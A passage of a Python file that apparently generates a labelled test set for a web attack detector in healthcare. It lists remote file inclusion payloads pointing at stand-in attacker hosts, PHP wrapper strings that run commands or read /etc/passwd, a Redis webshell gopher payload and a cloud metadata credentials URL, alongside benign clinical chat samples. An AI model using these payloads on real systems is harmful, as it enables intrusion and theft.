    "http://192.0.2.44/include/x.php",
    "https://192.0.2.44:8443/payload.txt",
    # the same host written as a decimal, hex, octal or IPv6 literal past a blacklist
    "http://3332596759/x.txt",
    "http://0xC6336417/x.txt",
    "http://0306.063.0144.027/x.txt",
    "http://[::ffff:c633:6417]/x.txt",
    "http://198.51.100.23.nip.io/x.txt",
    # patient portal theme loader and FHIR questionnaire renderer fetching a remote file
    f"http://{ATK}/portal/theme/header.php",
    f"http://{ATK}/Questionnaire/phq9.php",
    f"http://{ATK}/fhir/ValueSet.txt",
    "http://45.33.32.156/r.txt",
    "http://185.220.101.4/bot.txt",
    "http://91.134.23.7:81/s.txt",
    "http://10.0.0.5/admin/shell.php",
    "http://172.16.4.20/intranet/x.txt",
    "http://127.0.0.1:8080/manager/html",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://1.1.1.1/x.php",
    "http://8.8.8.8:53/x.txt",
    "http://100.64.0.9/drop/s.txt",
    "http://52.14.88.12/pixel.php",
    "http://141.98.10.60/kit.txt",
    "http://203.0.113.77/lab/result_template.php",
    "https://198.51.100.80/claims/edi_header.php",
]

# url-trailing-question-mark: a remote URL ending in ? (or ?? or #) so the app's appended ".php" becomes a query
RFI_QMARK: list[Entry] = [
    "http://evil.example/shell.txt?",
    "https://attacker.example/c99.txt??",
    f"http://{ATK}/x.txt?",
    f"http://{ATK}/r57.txt?&",
    f"https://{ATK}/inc.txt?x=",
    "http://malicious.example/templates/letter.txt?",
    "http://malicious.example/templates/letter.txt%3F",
    "http://pastebin.com/raw/kN4u8wQz?",
    "https://gist.githubusercontent.com/x/0c1d/raw/s.txt?",
    "http://attacker.example/cmd.txt?cmd=id&",
    "http://attacker.example/cmd.txt?.php",
    "http://203.0.113.9/phpinfo.txt?",
    "http://203.0.113.9/a.txt#",
    "http://203.0.113.9/a.txt%23",
    "https://cdn.evil.example/lang/en.txt?",
    "http://evil.example/modules/fhir_export.txt?",
    "http://evil.example/inc/header.txt???",
    "http://evil.example/?",
    "ftp://anonymous@198.51.100.23/pub/s.txt?",
    "http://evil.example/x.txt?/../../",
    "http://xn--80ak6aa92e.example/s.txt?",
    "http://evil.example:8080/r.txt?lang=",
    "https://attacker.example/portal/footer.txt?",
    "http://attacker.example/redcap/hook.txt?",
    "http://attacker.example/lims/label.txt?printer=",
    "http://attacker.example/s.txt?%00",
    "http://attacker.example/e.txt?ext=",
    "http://attacker.example/t.txt?v=1.0&",
    "https://raw.githubusercontent.com/x/y/main/shell.php?",
    "http://evil.example/pharmacy/label.txt?",
]

# include-parameter-with-url: the URL under the parameter names PHP apps include from (page, file, template,
# include, path, module); the real placements use those names
RFI_INCLUDE: list[Entry] = [
    "http://evil.example/shell.txt",
    "https://evil.example/c99.php",
    "http://attacker.example/r57.php",
    "http://attacker.example/inc/config.txt",
    "http://malicious.example/portal/appointments.php",
    "https://malicious.example/ehr/encounter_form.txt",
    "http://evil.example/templates/lab_report.txt",
    "http://evil.example/modules/prescription.php",
    "http://evil.example/lang/en_US.php",
    "http://evil.example/skins/default/header.inc",
    "https://attacker.example/redcap/plugins/x.php",
    "https://attacker.example/openemr/interface/main.txt",
    "http://attacker.example/fhir/CapabilityStatement.php",
    "http://attacker.example/hl7/ack.txt",
    "http://attacker.example/dicom/viewer.php",
    "http://attacker.example/wado/loader.inc.php",
    "http://attacker.example/billing/837p.txt",
    "http://attacker.example/telehealth/room.php",
    "http://attacker.example/lims/barcode.php",
    "http://attacker.example/device/status.txt",
    "https://attacker.example/pharmacy/erx.txt",
    "https://attacker.example/claims/remit.txt",
    "https://attacker.example/survey/instrument.txt",
    "http://evil.example/wp-content/uploads/x.txt",
    "http://evil.example/images/logo.gif.php",
    "http://evil.example/cache/s.phtml",
    "http://evil.example/upload/avatar.jpg",
    "https://evil.example/assets/js/app.js.php",
    "http://evil.example/cgi/sh.txt",
    "http://evil.example/x",
]

# off-domain-reference: a URL on somebody else's host in a field the app fetches or includes (callback, webhook,
# logo, FHIR subscription endpoint, report source)
RFI_OFFDOMAIN: list[Entry] = [
    "//attacker.example/shell.php",
    "//evil.example/x.txt",
    "\\\\evil.example\\x.txt",
    "https://pastebin.com/raw/9pQz2kLm",
    "https://raw.githubusercontent.com/attacker/kit/main/r57.php",
    "https://gist.githubusercontent.com/attacker/4f2a/raw/w.php",
    "https://transfer.sh/Xyz12/shell.php",
    "https://cdn.discordapp.com/attachments/1/2/s.txt",
    "https://ngrok-free.app.attacker.example/hook.php",
    "http://attacker.burpcollaborator.net/fhir",
    "https://x.oast.fun/lab",
    "http://requestbin.net/r/1abc2def",
    "https://webhook.site/5b1f0c2e-6d7a-4a9e-8f21-3c4b5d6e7f80",
    "https://evil.example/Patient?_format=json",
    "https://evil.example/fhir/r4/$export",
    "https://evil.example/Subscription/endpoint.php",
    "http://evil.example/wado?requestType=WADO&studyUID=1.2.3",
    "https://evil.example/dicomweb/studies/1.2.3/rendered",
    "http://evil.example/hl7/listener.php",
    "https://evil.example/portal/logo.svg.php",
    "https://evil.example/xsl/cda2html.xsl",
    "https://evil.example/schema/claim.xsd",
    "https://evil.example/redcap/external_module.txt",
    "https://evil.example/erx/formulary.txt",
    "https://evil.example/telehealth/sdk.js",
    "http://evil.example:1337/beacon.php",
    "https://evil.example.hospital-login.example/sso.php",
    "http://hospital.example@evil.example/include.php",
    "https://evil.example%2f@hospital.example/x.php",
    "http://evil.example/%2e%2e/shell.txt",
]

# remote-protocol: other schemes an include, a converter or a fetcher accepts (PHP wrappers, SMB/UNC on Windows
# PACS, libcurl-based fetchers, Java URL handlers)
RFI_PROTOCOLS: list[Entry] = [
    f"ftp://{ATK}/shell.php",
    f"ftp://anonymous:anon@{ATK}/pub/c99.txt",
    "ftps://evil.example/inc.php",
    f"smb://{ATK}/share/x.php",
    f"\\\\{ATK}\\share\\shell.php",
    "\\\\evil.example\\pacs\\viewer.php",
    f"//{ATK}/share/x.php",
    "\\\\evil.example@SSL\\DavWWWRoot\\x.php",
    "file://evil.example/share/x.php",
    "data:text/plain,<?php system('id'); ?>",
    "data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==",
    "data:,<?php passthru($_GET[0]);?>",
    "data:text/html,<script>alert(document.domain)</script>",
    "expect://id",
    "expect://cat /etc/passwd",
    "expect://ls%20-la",
    f"ssh2.exec://root:toor@{ATK}:22/id",
    f"ssh2.sftp://user:pass@{ATK}/etc/passwd",
    f"sftp://{ATK}/s.php",
    f"gopher://{ATK}:70/_GET%20/x.php",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5B0%5D%29%3B%3F%3E%22",
    "dict://127.0.0.1:11211/stats",
    f"ldap://{ATK}:389/dc=hospital",
    f"jar:http://{ATK}/x.jar!/Exploit.class",
    "netdoc:///etc/passwd",
    "tftp://evil.example/x.php",
    "rar://uploads/labs.rar#x.php",
    "ogg://evil.example/x.ogg",
    f"webdav://{ATK}/dav/x.php",
    f"php://filter/resource=http://{ATK}/x.txt",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-evasion", UNIX_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-with-path", UNIX_PATHS),
    ("rce", "reverse-shell", REVERSE),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloader", DOWNLOADER),
    ("rce", "shell-file-write", FILE_WRITE),
    ("rce", "restricted-file-in-command", RESTRICTED_IN_CMD),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-path", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper", PHP_WRAPPER),
    ("lfi", "log-poisoning-target", LOG_TARGETS),
    ("lfi", "restricted-file-extension", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", RFI_IP),
    ("rfi", "url-trailing-question-mark", RFI_QMARK),
    ("rfi", "include-parameter-with-url", RFI_INCLUDE),
    ("rfi", "off-domain-reference", RFI_OFFDOMAIN),
    ("rfi", "remote-protocol", RFI_PROTOCOLS),
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    unique = True
    xml_controls = "\n\r\t"   # an XML body may carry a newline, never a NUL
    one_line = ("cookie", "rs-cookie", "multipart-filename")
    names_by_category = {
        "rce": ["host", "study_uid", "accession", "printer", "mrn", "device", "filename", "batch", "session_id"],
        "lfi": ["file", "report", "template", "doc", "attachment", "image", "lang", "export", "path"],
        "rfi": ["url", "template", "callback", "source", "logo_url", "endpoint", "feed", "stylesheet", "theme"],
    }
    include_names = ["page", "include", "template", "file", "path", "module", "inc", "view", "content"]
    lfi_cycle = ("query", "form", "json", "cookie", "header:Referer", "param-name", "xml", "multipart-field",
                 "path", "multipart-filename", "header:X-Api-Version")
    shock_cycle = ("header:User-Agent", "header:Referer", "cookie", "header:X-Api-Version", "query")
    shock_rs_cycle = ("rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie")
    shock_paths = ("/cgi-bin/test.cgi", "/cgi-bin/status.cgi", "/cgi-bin/pump_status.sh", "/cgi-bin/dicom_echo.cgi")

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if sub == "shellshock":
            return self.shock_cycle, self.shock_rs_cycle
        if category == "lfi":
            return self.lfi_cycle, self.rs_cycle
        return self.real_cycle, self.rs_cycle

    def name(self, category: str, sub: str, k: int) -> str:
        names: Sequence[str] = (self.include_names if sub == "include-parameter-with-url"
                                else self.names_by_category[category])
        return names[k % len(names)]

    def rs_path(self, category: str, sub: str, k: int) -> str:
        if sub == "shellshock":
            return self.shock_paths[k % len(self.shock_paths)]
        return self.rs_paths[k % len(self.rs_paths)]


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ================================================================================================================
# Benign: the same words, typed innocently by clinicians, lab staff and health-IT engineers (Slack chat and bios,
# colleague searches, links to portals and docs, admin notes, profiles, export and DICOM file names, headers)
CHAT = [
    "Mrs. K's echo is booked for Tuesday 10:30, cardiology asked if we can move her cath to Thursday",
    "can someone cover the 2pm slot in clinic B? I'm stuck in the cath lab",
    "the ADT feed is backed up again, Mirth shows 412 queued on the A08 channel",
    "MSH|^~\\&|EPIC|MAINHOSP|LIS|LAB|20240611083000||ORM^O01|MSG00017|P|2.5.1 <- this is what we send, lab says "
    "the MSH-9 is wrong",
    "PID|1||MRN0045821^^^MAIN^MR||TEST^PATIENT^A||19800101|F   (test patient, not real)",
    "OBX|1|NM|2345-7^Glucose^LN||112|mg/dL|70-99|H|||F   flagged H because ref range is 70-99",
    "the ORU feed drops OBX-5 when the value has a pipe in it, do we escape it as \\F\\ ?",
    "FHIR search that works for me: GET /Patient?family=smith&birthdate=ge1980-01-01&_count=50",
    "try /Observation?patient=123&code=http://loinc.org|718-7&_sort=-date, the system|code form needs the pipe",
    "_include=MedicationRequest:medication is what you want, not _revinclude",
    "does our server support _filter? the docs say only on /Observation",
    "ran $everything on a test patient and it timed out after 30s, the bundle was 14 MB",
    "Patient/$match returns a score of 0.8 for the test record, good enough for the demo",
    "the $export job finished, ndjson files are in the bucket under /exports/2024-06-11/",
    "{\"resourceType\": \"Patient\", \"id\": \"example\", \"name\": [{\"family\": \"Chalmers\"}]} is the sample from "
    "the spec",
    "WADO-URI link format: /wado?requestType=WADO&studyUID=...&seriesUID=...&objectUID=...&contentType=image/jpeg",
    "the PACS viewer can't open CT_HEAD_20240611.dcm, says transfer syntax 1.2.840.10008.1.2.4.90 unsupported",
    "dcmdump shows (0010,0010) PatientName is empty on the anonymised set, as expected",
    "storescu -v pacs.hospital.local 104 study/*.dcm worked from the modality workstation",
    "C-ECHO from the ultrasound to the PACS succeeds, C-STORE fails with 0xA700 out of resources",
    "the LIMS label printer on ward 3 prints blank labels, I think the zebra needs a new ribbon",
    "sample 24-0611-0173 was hemolysed, recollect ordered",
    "potassium 6.1 mmol/L (ref 3.5-5.1) on the repeat too, calling the ward now",
    "HbA1c 7.2% (ref < 5.7%), flagged for the diabetes clinic",
    "dose is 5 mg/kg q8h, max 500 mg per dose, pharmacy double checked",
    "metoprolol 25 mg PO BID; hold if HR < 55 or SBP < 95",
    "the eRx to the pharmacy failed with NCPDP error 'Prescriber not found' again",
    "claim rejected: CO-16 missing info, the 837P had an empty NM1*82 loop",
    "ISA*00*          *00*          *ZZ*SENDER  ... is the start of the file the clearinghouse sent back",
    "telehealth room link expires after 15 min, patients keep joining late and get the error page",
    "REDCap export gives me a CSV with record_id;redcap_event_name;age;sex, semicolon because of the locale",
    "the REDCap API call with token and content=record&format=json works from Postman but not from R",
    "SELECT count(*) FROM encounters WHERE admit_date >= '2024-06-01' AND dept = 'ED'; -> 1842",
    "the research warehouse refresh takes 6h, it runs nightly at 01:00 via cron",
    "check /var/log/mirthconnect/mirth.log on the interface box, the error is there",
    "error in the portal log: 'FileNotFoundException: /opt/portal/templates/reminder_es.html'",
    "the Windows PACS server logs are under C:\\ProgramData\\PACS\\Logs, you'll need RDP access",
    "Tomcat on the FHIR box restarted at 03:12, heap was at 95%",
    "ping to the infusion pump gateway is fine but the console says offline",
    "curl -s https://fhir.hospital.example/metadata | jq .fhirVersion gives 4.0.1",
    "wget the new drug library from the vendor portal and upload it through the pump console, not by USB",
    "tail -f the HL7 listener log while they send the test message please",
    "who's on call for the interface engine tonight? pager says Priya",
    "cat scan? no, CT. nobody calls it a CAT scan anymore except my dad",
    "echo results for bed 12 are in the chart, EF 55%",
    "the ECG cart in bay 4 won't sync, says 'export failed: path not found'",
    "new hire in pathology starts Monday, please add her to the LIMS and the #lab-ops channel",
    "backup of the EHR db finished: ehr_backup_2024-06-11.sql.gz, 42 GB",
    "who has the web.config for the billing portal? need to bump the upload limit",
    "the .env for the patient portal staging is in the vault, don't paste it here",
    "the device console runs an old CentOS 6 box, shellshock was patched in 2014 per the vendor letter",
    "pen test report mentions path traversal on the old document viewer, ticket SEC-2211",
    "vendor says the PACS supports smb://nas01/dicom as an archive target, I'd rather use NFS",
    "the discharge summary template uses {{patient.name}} and {{encounter.date}}",
    "appointment reminders go out at 18:00 the day before, SMS and email",
    "can we get the flu clinic schedule into the portal by Friday?",
    "the lab reference ranges for paediatrics changed, ALP now 100-390 U/L for 4-15y",
    "INR 2.4 (target 2-3) — no change to warfarin",
    "insurer portal login page moved, new link is in the pinned message",
    "IT said the scanner uploads to \\\\fileserver\\scans\\radiology, not the old share",
    "the HL7 gateway uses MLLP on port 2575, the web gateway wraps it for the portal",
    "fyi: PowerShell script that rotates the PACS logs runs Sundays at 02:00",
    "we use wkhtmltopdf for the discharge letters, it renders the header from header.html",
    "patients can now book echo and stress tests online, cardiology signed off",
    "whoami on the LIMS box says labsvc, that's the service account",
    "the old intranet link http://intranet/ehr/index.php?page=help still works for some people",
    "FHIR Bundle of type transaction failed: 'HAPI-0450: Failed to parse request body as JSON'",
    "can the sample tracker export to .csv instead of .xls? the lab manager asked",
    "anyone know why the DICOM viewer shows the series upside down for MR knee?",
]

SEARCHES = [
    "cardiology",
    "radiology PACS",
    "ward 3",
    "ward 7B nights",
    "ICU",
    "pathology lab",
    "microbiology",
    "pharmacy",
    "interface team",
    "HL7",
    "FHIR",
    "Mirth",
    "LIMS admin",
    "echo tech",
    "cath lab",
    "oncology day unit",
    "biomed",
    "device team",
    "billing",
    "claims",
    "REDCap",
    "research data",
    "telehealth",
    "patient portal",
    "O'Connor",
    "D'Souza",
    "Nguyen",
    "Dr. Patel",
    "nurse manager ED",
    "phlebotomy",
    "health IT",
    "EHR analyst",
    "clinical informatics",
    "DICOM",
    "security",
    "on call",
    "paediatrics",
    "maternity",
    "theatre",
    "physio",
    "infection control",
    "coding & billing",
    "lab/blood bank",
    "A&E",
    "imaging (MRI)",
    "priya",
    "interface engine on-call",
    "pharmacy informatics",
    "dr. o'brien",
    "ENT clinic",
]

URLS = [
    "https://hl7.org/fhir/R4/search.html#include",
    "https://hl7.org/fhir/R4/patient-operation-everything.html",
    "https://build.fhir.org/ig/HL7/bulk-data/export.html",
    "https://www.dicomstandard.org/current",
    "https://dicom.nema.org/medical/dicom/current/output/html/part18.html",
    "https://loinc.org/718-7/",
    "https://portal.hospital.example/appointments?dept=cardiology&date=2024-06-18",
    "https://portal.hospital.example/results?type=lab&sort=-date",
    "https://fhir.hospital.example/r4/Patient?identifier=urn:oid:1.2.36.146.595.217.0.1|12345",
    "https://fhir.hospital.example/r4/Observation?patient=123&code=http://loinc.org|2345-7",
    "https://pacs.hospital.example/viewer?StudyInstanceUIDs=1.2.840.113619.2.55.3.604688119.969",
    "https://pacs.hospital.example/wado?requestType=WADO&studyUID=1.2.3&seriesUID=1.2.3.4&objectUID=1.2.3.4.5",
    "https://redcap.university.example/redcap_v14.0.1/index.php?pid=4521",
    "https://lims.hospital.example/samples?barcode=24-0611-0173",
    "https://erx.hospital.example/prescriptions/RX-10023",
    "https://claims.insurer.example/status?claim=837P-0611-22",
    "https://telehealth.hospital.example/room/visit-88213",
    "https://docs.mirthcorp.com/display/MC/Channel+Reader",
    "https://www.openemr.org/wiki/index.php/OpenEMR_Downloads",
    "https://github.com/hapifhir/hapi-fhir/issues/4512",
    "https://support.hospital.example/kb/article.php?id=201",
    "https://intranet.hospital.example/policies/files/infection-control.pdf",
    "https://www.cms.gov/medicare/billing/electronicbillingeditrans",
    "https://ncpdp.org/Standards-Development/Standards-Information",
    "https://orthanc.uclouvain.be/book/users/rest.html",
]

PROSE = [
    "Echo lab schedule for next week: Mon/Wed full, Tue 2 slots left",
    "Please check the ADT A08 channel; queued messages > 400",
    "MSH|^~\\&|LIS|LAB|EPIC|MAIN|20240611||ORU^R01|0001|P|2.5.1",
    "OBX|2|NM|718-7^Hemoglobin^LN||13.2|g/dL|12.0-16.0|N|||F",
    "Patient?name=smith&_include=Patient:general-practitioner",
    "Observation?code=8867-4&date=ge2024-06-01&_sort=-date&_count=20",
    "GET [base]/Patient/123/$everything?_since=2024-01-01",
    "CT_CHEST_W_CONTRAST_20240611.dcm won't load in the viewer",
    "dose 2.5 mg/kg IV q12h; max 200 mg",
    "claim denied CO-97, resubmit with modifier 59",
    "error: 'Could not open file C:\\ProgramData\\PACS\\Logs\\dicom.log'",
    "export the lab results as CSV; delimiter ';' please",
    "cardiology & radiology joint meeting, Thursday 12:00",
    "reference range 3.5-5.1 mmol/L; value 6.1 (H)",
    "who owns the e-prescribing interface?",
    "the cron job for the warehouse refresh runs at 01:00",
    "pager: interface on-call | 555-0142",
    "REDCap project 4521 — survey closes 30 June",
    "need access to \\\\fileserver\\scans\\cardiology",
    "Tomcat restart on fhir-prod-02 at 03:12",
    "backup file ehr_backup_2024-06-11.sql.gz copied to tape",
    "ping the pump gateway 10.40.12.7 before escalating",
    "curl https://fhir.hospital.example/metadata returns 200",
    "telehealth link: https://telehealth.hospital.example/room/visit-88213",
    "vendor config lives in /etc/orthanc/orthanc.json per their guide",
    "template: discharge_summary_v3.html",
    "INR 2.4 (2-3) stable",
    "ward 7B, bed 12 – echo done, EF 55%",
    "the HL7 escape for | is \\F\\ and for & is \\T\\",
    "wkhtmltopdf --page-size A4 header.html letter.pdf",
]

PROFILES = [
    ("Dr. Aisha Rahman, Cardiology", "Echo Lab, Level 2, St. Mary's Hospital"),
    ("Tom O'Connor, Interface Analyst", "Health IT, Building C, Room 3.14"),
    ("Priya D'Souza, LIMS Administrator", "Pathology Lab, Basement B1"),
    ("Marco Rossi, PACS Engineer", "Radiology, Imaging Centre, 1st floor"),
    ("Nurse Manager – Ward 7B", "Ward 7B, East Wing"),
    ("Dr. Chen Wei, Clinical Informatics", "CMIO Office, Admin Block"),
    ("Fatima Al-Sayed, Pharmacist", "Pharmacy, Ground Floor & Outpatient Dispensary"),
    ("Jonas Berg, Biomed Technician", "Medical Devices Workshop, Rear Annex"),
    ("Sara Kim, Claims Specialist", "Revenue Cycle, 200 Main St, Suite 5"),
    ("Liam Murphy, Research Data Manager", "Clinical Research Unit / Data Warehouse"),
    ("Dr. Ana Costa, Telehealth Lead", "Virtual Care Hub, Remote"),
    ("Nguyen Van An, Phlebotomist", "Outpatient Blood Draw, Clinic B"),
    ("Echo Diagnostics Ltd", "12 Harley Street, London"),
    ("Path & Lab Services Inc.", "45 Science Park Rd, Cambridge"),
    ("Dr. Olu Adeyemi, Microbiology", "Lab 4, Pathology Building"),
    ("Grace Liu, EHR Trainer", "Education Centre, Room 2"),
    ("Rahul Mehta, Security Analyst (Health IT)", "SOC, Data Centre 2"),
    ("Dr. Elena Petrova, Oncology", "Oncology Day Unit, Level 3"),
    ("Ward 3 Nursing Station", "Ward 3, North Wing"),
    ("Kofi Mensah, Interface Engineer", "Integration Team, Building C"),
]

UPLOAD_NAMES = [
    "CT_HEAD_20240611.dcm",
    "MR_KNEE_L_series3.dcm",
    "US_ECHO_bed12.dcm",
    "1.2.840.113619.2.55.3.604688119.969.dcm",
    "study_export_2024-06-11.zip",
    "lab_results_june.csv",
    "sample_tracker_export.xlsx",
    "ADT_A08_test_message.hl7",
    "ORU_R01_glucose_example.hl7",
    "patient_bundle_example.json",
    "Observation_export.ndjson",
    "discharge_summary_template.docx",
    "referral_letter_draft.pdf",
    "claims_837P_batch_0611.txt",
    "remit_835_0611.edi",
    "formulary_2024Q3.xlsx",
    "drug_library_v12.dlib",
    "redcap_project_4521_data_dictionary.csv",
    "REDCap_export_labels.csv",
    "ecg_bay4_20240611.xml",
    "appointment_schedule_week25.xlsx",
    "telehealth_consent_form.pdf",
    "interface_spec_v2.5.1.pdf",
    "PACS_runbook (final).docx",
    "on-call rota – June.pdf",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "HAPI-FHIR/6.10.0 (FHIR Client; FHIR 4.0.1/R4; apache)"),
    ("User-Agent", "Mirth Connect/4.4.1"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "curl/7.81.0"),
    ("User-Agent", "Wget/1.21.2"),
    ("User-Agent", "PostmanRuntime/7.37.3"),
    ("Referer", "https://portal.hospital.example/appointments?dept=cardiology"),
    ("Referer", "https://fhir.hospital.example/r4/Patient?family=smith&_include=Patient:organization"),
    ("Referer", "https://pacs.hospital.example/viewer?StudyInstanceUIDs=1.2.840.113619.2.55.3"),
    ("Referer", "https://redcap.university.example/redcap_v14.0.1/DataExport/index.php?pid=4521"),
    ("Referer", "https://hl7.org/fhir/R4/search.html"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7d2c9e4a-1b3f-4c5d-9e8f-0a1b2c3d4e5f"),
    ("Accept-Language", "en-US,en;q=0.9,es;q=0.6"),
    ("Cookie", "session=abc123; dept=cardiology; view=week"),
    ("Cookie", "session=abc123; last_search=ward%207B; tz=America%2FChicago"),
    ("Accept", "application/fhir+json"),
    ("X-Forwarded-For", "10.40.12.7"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
